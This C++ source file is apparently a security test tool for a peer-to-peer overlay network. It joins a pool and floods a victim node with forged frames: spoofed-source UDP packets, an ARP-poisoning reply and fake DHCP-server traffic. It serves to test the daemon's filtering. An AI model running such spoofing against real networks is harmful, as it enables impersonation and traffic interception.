// A hostile member of a pool: joins as any node does, and then sends a host frames that only others
// may send, past the checks of the daemon that an honest member runs.
// Usage: forger DIRECTORY VICTIM_NODE VICTIM_IP OTHER_NODE OTHER_IP
#include <array>
#include <boost/asio/io_context.hpp>
#include <iostream>

#include "dht/asio/node_host.h"
#include "tap/mac_address.h"
#include "tap/packet_view.h"

namespace wow {
namespace {

constexpr int kRounds = 40;
constexpr Duration kInterval = 20ms;
constexpr std::uint16_t kPort = 9999, kDhcpServerPort = 67;

class Forger {
 public:
  Forger(boost::asio::io_context& io, NodeHost& host, char** arguments)
      : io_(io),
        host_(host),
        victim_(*Address::from_hex(arguments[0])),
        other_(*Address::from_hex(arguments[2])),
        victim_ip_(*IpAddress::parse(arguments[1])),
        other_ip_(*IpAddress::parse(arguments[3])),
        timer_(host.clock()) {
    host_.node().on_joined([this] {
      host_.node().want_shortcut(victim_);
      step();
    });
  }

 private:
  void step() {
    timer_.after(kInterval, [this] { step(); });
    const Session* session = host_.node().session(victim_);
    if (!session || session->state() != SessionState::kOpen) return;
    for (const Bytes& frame : forged()) host_.node().send_frame(victim_, frame, 0);
    if (++rounds_ < kRounds) return;
    std::cout << "sent " << kRounds << " of each" << std::endl;
    io_.stop();
  }

  Bytes udp(const MacAddress& from, const IpAddress& ip, std::uint16_t port) const {
    return write_ethernet(mac_of(victim_), from, EtherType::kIpv4,
                          write_udp({ip, port}, {victim_ip_, kPort}, view_of("forged")));
  }

  std::array<Bytes, 4> forged() const {
    const MacAddress own = mac_of(host_.node().address());
    // RFC 826: "the other's address is at our MAC".
    Writer arp;
    arp.u16(1).u16(0x0800).u8(6).u8(4).u16(2).bytes(own).bytes(other_ip_.bytes());
    arp.bytes(mac_of(victim_)).bytes(victim_ip_.bytes());
    return {udp(own, other_ip_, kPort), udp(mac_of(other_), other_ip_, kPort),
            write_ethernet(mac_of(victim_), own, EtherType::kArp, arp.view()),
            udp(own, other_ip_, kDhcpServerPort)};
  }

  boost::asio::io_context& io_;
  NodeHost& host_;
  const Address victim_, other_;
  const IpAddress victim_ip_, other_ip_;
  Timer timer_;
  int rounds_ = 0;
};

}  // namespace
}  // namespace wow

int main(int argc, char** argv) {
  if (argc != 6) return 2;
  boost::asio::io_context io;
  wow::NodeHostOptions options;
  options.directory = argv[1];
  auto host = wow::NodeHost::open(io.get_executor(), options);
  if (!host) {
    std::cerr << host.error().message << "\n";
    return 1;
  }
  wow::Forger forger(io, **host, argv + 2);
  (*host)->start();
  io.run();
}
